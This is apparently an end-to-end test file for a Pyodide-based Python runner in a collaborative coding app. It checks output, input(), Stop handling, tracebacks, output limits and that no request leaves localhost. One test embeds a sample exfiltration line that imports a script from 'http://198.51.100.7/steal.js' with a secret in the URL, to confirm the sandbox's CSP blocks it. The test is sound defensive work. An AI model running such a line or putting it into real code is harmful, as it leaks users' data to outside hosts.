// Running Python in the browser: in a shared room (output, input(), Stop, a program that ignores Stop,
// tracebacks, Ctrl+Enter, read-only watchers), in the playground without an account, and on a page that is
// not cross-origin isolated. Pyodide comes from our own server: no request leaves 127.0.0.1.
import type { BrowserContext, Page } from "playwright-core";
import { beforeAll, describe, expect, it } from "vitest";
import { editorText, logIn, newContext, useServerAndBrowser, openTeamRoom } from "./support.ts";

const env = useServerAndBrowser({ seed: true });

interface Traffic {
  /** Every URL a context asked for, its workers and WebSockets included. */
  requested: string[];
  /** Requests the browser refused to send because of a Content-Security-Policy. */
  blockedByCsp: Set<string>;
}

function recordRequests(context: BrowserContext): Traffic {
  const traffic: Traffic = { requested: [], blockedByCsp: new Set() };
  context.on("request", (request) => traffic.requested.push(request.url()));
  context.on("requestfailed", (request) => request.failure()?.errorText === "csp" && traffic.blockedByCsp.add(request.url()));
  context.on("page", (page) => page.on("websocket", (socket) => traffic.requested.push(socket.url())));
  return traffic;
}

function expectOnlyLocal(traffic: Traffic) {
  const sent = traffic.requested.filter((url) => !traffic.blockedByCsp.has(url));
  expect(sent.filter((url) => !/^(data|blob):/.test(url) && new URL(url).hostname !== "127.0.0.1")).toEqual([]);
  // The worker's own fetches are seen, so the check covers Pyodide's files too.
  expect(sent.some((url) => /\/pyodide\/[\d.]+\/pyodide\.asm\.wasm$/.test(url))).toBe(true);
}

/** Replaces the editor's text by pasting it, so Monaco adds no brackets or indentation of its own. */
async function setCode(page: Page, code: string) {
  await page.locator("[data-testid=code-editor] .view-lines").click();
  await page.keyboard.press("Control+A");
  await page.locator("[data-testid=code-editor] textarea").evaluate((textarea, text) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData("text/plain", text);
    textarea.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
  }, code);
  await expect.poll(() => editorText(page)).toBe(code);
}

const output = (page: Page) => page.getByTestId("console-output").innerText();
const runButton = (page: Page) => page.getByRole("button", { name: "Run", exact: true });
const stopButton = (page: Page) => page.getByRole("button", { name: "Stop", exact: true });
const idle = (page: Page) => expect.poll(() => stopButton(page).getAttribute("aria-disabled")).toBe("true");

async function runAndWait(page: Page, text: string) {
  await runButton(page).click();
  await expect.poll(() => output(page), { timeout: 30_000 }).toContain(text);
}

describe("Python in a room", () => {
  let ada: Page;
  let adaRequests: Traffic;

  beforeAll(async () => {
    const context = await newContext(env.browser, env.server.url);
    adaRequests = recordRequests(context);
    ada = await context.newPage();
    await logIn(ada, "ada@example.com", "chalkroom-demo");
    await openTeamRoom(ada);
  });

  it("the page is cross-origin isolated, the shared editor still syncs, and Run prints what the room's code prints (first run loads Python, later runs are instant)", async () => {
    const alanContext = await newContext(env.browser, env.server.url);
    const alanRequests = recordRequests(alanContext);
    const alan = await alanContext.newPage();
    await logIn(alan, "alan@example.com", "chalkroom-demo");
    await openTeamRoom(alan);
    expect(await ada.evaluate(() => crossOriginIsolated)).toBe(true);
    expect(await alan.evaluate(() => crossOriginIsolated)).toBe(true);

    const program = 'print("hello from", "the room")\nfor i in range(3):\n    print(i * i)\n';
    await setCode(ada, program);
    await expect.poll(() => editorText(alan)).toBe(program);

    // Alan runs the code Ada typed: Run reads the shared document.
    const clicked = Date.now();
    await runButton(alan).click();
    await alan.getByTestId("console-status").getByText("Loading Python…").waitFor();
    await expect.poll(() => output(alan), { timeout: 30_000 }).toContain("hello from the room\n0\n1\n4");
    const firstRunMs = Date.now() - clicked;
    const startedIn = (await output(alan)).match(/Python is ready \(started in ([\d.]+) s\)/);
    expect(startedIn).not.toBeNull();
    console.log(`runner: first Run to output ${firstRunMs} ms; Pyodide start reported by the worker ${startedIn![1]} s`);
    await idle(alan);

    // Ctrl+Enter from inside the editor runs again at once and inserts nothing into the code.
    await alan.locator("[data-testid=code-editor] .view-lines").click();
    const pressed = Date.now();
    await alan.keyboard.press("Control+Enter");
    await expect.poll(() => output(alan)).toMatch(/^hello from the room\n0\n1\n4\nProgram finished in/);
    const warmRunMs = Date.now() - pressed;
    console.log(`runner: warm run (Ctrl+Enter) to output ${warmRunMs} ms`);
    expect(warmRunMs).toBeLessThan(2_000);
    expect(await output(alan)).not.toContain("Loading Python");
    expect(await editorText(alan)).toBe(program);
    await expect.poll(() => editorText(ada)).toBe(program);

    // A teacher watching read-only can run the code too (running is local).
    const teacherContext = await newContext(env.browser, env.server.url);
    const teacherRequests = recordRequests(teacherContext);
    const teacher = await teacherContext.newPage();
    await logIn(teacher, "teacher@example.com", "chalkroom-demo");
    await teacher.goto(`${alan.url()}?readonly=1`);
    await teacher.getByTestId("connection-status").getByText("read only").waitFor();
    await expect.poll(() => editorText(teacher)).toBe(program);
    await runAndWait(teacher, "hello from the room\n0\n1\n4");

    expectOnlyLocal(alanRequests);
    expectOnlyLocal(teacherRequests);
    await alanContext.close();
    await teacherContext.close();
  });

  it("input() waits for what is typed in the console", async () => {
    await setCode(ada, 'name = input("What is your name? ")\nage = int(input("How old are you? "))\nprint(f"Hello, {name}! Next year you will be {age + 1}.")\n');
    await runButton(ada).click();
    const field = ada.getByRole("textbox", { name: "Input for “What is your name?”" });
    await expect.poll(() => field.evaluate((el) => el === document.activeElement), { timeout: 30_000 }).toBe(true);
    await ada.getByTestId("console-status").getByText("Waiting for your input…").waitFor();
    await ada.keyboard.type("Ada");
    await ada.keyboard.press("Enter");
    await ada.getByRole("textbox", { name: "Input for “How old are you?”" }).waitFor();
    await ada.keyboard.type("36");
    await ada.keyboard.press("Enter");
    await expect.poll(() => output(ada)).toContain("What is your name? Ada\nHow old are you? 36\nHello, Ada! Next year you will be 37.\nProgram finished");
    await idle(ada);
    expect(await ada.getByRole("textbox", { name: /^Input/ }).count()).toBe(0);
  });

  it("Stop interrupts a runaway loop, and the next run works in the same Python", async () => {
    await setCode(ada, 'print("looping")\nwhile True:\n    pass\n');
    await runAndWait(ada, "looping");
    const pressed = Date.now();
    await stopButton(ada).click();
    await expect.poll(() => output(ada)).toContain("looping\nStopped.");
    expect(Date.now() - pressed).toBeLessThan(2_000);
    await idle(ada);
    expect(await output(ada)).not.toContain("restarted");

    await setCode(ada, 'print("after the stop")\n');
    await runAndWait(ada, "after the stop\nProgram finished");
    expect(await output(ada)).not.toContain("Python is ready"); // the same worker: no reload
  });

  it("a program that ignores Stop (time.sleep) is ended by replacing the worker, and the next run works", async () => {
    await setCode(ada, 'import time\nprint("sleeping")\ntime.sleep(100)\n');
    await runAndWait(ada, "sleeping");
    const pressed = Date.now();
    await stopButton(ada).click();
    await ada.getByTestId("console-status").getByText("Stopping…").waitFor();
    await expect.poll(() => output(ada), { timeout: 10_000 }).toContain("The program did not stop within 2 s, so Python was restarted.");
    const stoppedMs = Date.now() - pressed;
    console.log(`runner: time.sleep(100) ended by replacing the worker after ${stoppedMs} ms`);
    expect(stoppedMs).toBeGreaterThanOrEqual(2_000);
    await idle(ada);

    await setCode(ada, 'print("a fresh Python")\n');
    await runAndWait(ada, "a fresh Python\nProgram finished");
  });

  it("a traceback shows the student's line numbers in main.py and no harness frames", async () => {
    await setCode(ada, 'def average(numbers):\n    return sum(numbers) / len(numbers)\n\nprint("computing")\nprint(average([]))\n');
    await runAndWait(ada, "ZeroDivisionError: division by zero");
    const text = await output(ada);
    expect(text).toContain('computing\nTraceback (most recent call last):\n  File "main.py", line 5, in <module>\n    print(average([]))');
    expect(text).toContain('File "main.py", line 2, in average\n    return sum(numbers) / len(numbers)');
    expect(text).not.toMatch(/chalkroom_runner|_pyodide|pyodide\.asm/);
    // stderr looks different from stdout.
    const colour = (text: RegExp) => ada.getByTestId("console-output").locator("span").filter({ hasText: text }).evaluate((el) => getComputedStyle(el).color);
    expect(await colour(/^Traceback/)).not.toBe(await colour(/^computing/));
  });

  it("the program cannot send requests or reach other tabs: it runs in other people's browsers with their session", async () => {
    await setCode(
      ada,
      [
        "import js",
        'names = ("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "BroadcastChannel", "importScripts", "Worker", "indexedDB", "caches")',
        'print("reachable:", [name for name in names if hasattr(js, name)])',
        "js.eval(\"import('http://198.51.100.7/steal.js?code=' + encodeURIComponent('secret')).catch(() => {})\")",
        'print("tried")',
        "",
      ].join("\n"),
    );
    await runAndWait(ada, "reachable: []\ntried\nProgram finished");
    // The worker's CSP refuses the import before anything is sent.
    await expect.poll(() => adaRequests.blockedByCsp.has("http://198.51.100.7/steal.js?code=secret")).toBe(true);
    expectOnlyLocal(adaRequests);
  });

  it("a flood of output is capped with a notice, the page stays responsive, and Stop ends it", async () => {
    await setCode(ada, "i = 0\nwhile True:\n    print(i)\n    i += 1\n");
    await runButton(ada).click();
    await expect.poll(() => output(ada), { timeout: 15_000 }).toContain("Output limit reached (200 KB)");
    // The page answers promptly while the program keeps running.
    const frameMs = await ada.evaluate(() => new Promise<number>((resolve) => {
      const start = performance.now();
      requestAnimationFrame(() => resolve(performance.now() - start));
    }));
    expect(frameMs).toBeLessThan(500);
    expect((await output(ada)).length).toBeLessThan(210 * 1024);
    await stopButton(ada).click();
    await expect.poll(() => output(ada)).toMatch(/Output limit reached[^]*\nStopped\.\s*$/);
    expectOnlyLocal(adaRequests);
  });
});

describe("the playground", () => {
  it("works without an account and keeps the code across a reload", async () => {
    const context = await newContext(env.browser, env.server.url);
    const requests = recordRequests(context);
    const page = await context.newPage();
    await page.goto("/");
    await page.getByRole("link", { name: "Open the playground" }).click();
    await page.waitForURL("**/playground");
    await page.locator("[data-testid=code-editor] .view-lines").waitFor();
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    expect(await editorText(page)).toContain('name = input("What\'s your name? ")');

    const program = 'squares = [n * n for n in range(5)]\nprint("squares:", squares)\n';
    await setCode(page, program);
    await runAndWait(page, "squares: [0, 1, 4, 9, 16]");

    await page.reload();
    await page.locator("[data-testid=code-editor] .view-lines").waitFor();
    await expect.poll(() => editorText(page)).toBe(program);
    await runAndWait(page, "squares: [0, 1, 4, 9, 16]");
    expect(page.url()).toBe(`${env.server.url}/playground`);
    expectOnlyLocal(requests);
  });

  it("without cross-origin isolation: says why input() is unavailable, runs other programs, and Stop restarts Python", async () => {
    const context = await newContext(env.browser, env.server.url);
    // A proxy that drops COEP: the page loads but is not cross-origin isolated.
    await context.route("**/playground", async (route) => {
      const response = await route.fetch();
      const headers = { ...response.headers() };
      delete headers["cross-origin-embedder-policy"];
      await route.fulfill({ response, headers });
    });
    const page = await context.newPage();
    await page.goto("/playground");
    await page.locator("[data-testid=code-editor] .view-lines").waitFor();
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
    await expect.poll(() => page.getByRole("note").innerText()).toContain("input() is unavailable on this page");

    await setCode(page, 'print("no input needed")\n');
    await runAndWait(page, "no input needed\nProgram finished");

    await setCode(page, 'name = input("Name? ")\n');
    await runAndWait(page, "RuntimeError: input() is unavailable here: this page is not cross-origin isolated");
    expect(await output(page)).toContain('File "main.py", line 1, in <module>');

    await setCode(page, 'print("spinning")\nwhile True:\n    pass\n');
    await runAndWait(page, "spinning");
    await stopButton(page).click();
    await expect.poll(() => output(page)).toContain("Stopped by restarting Python");
    await setCode(page, 'print("back again")\n');
    await runAndWait(page, "back again\nProgram finished");
  });
});
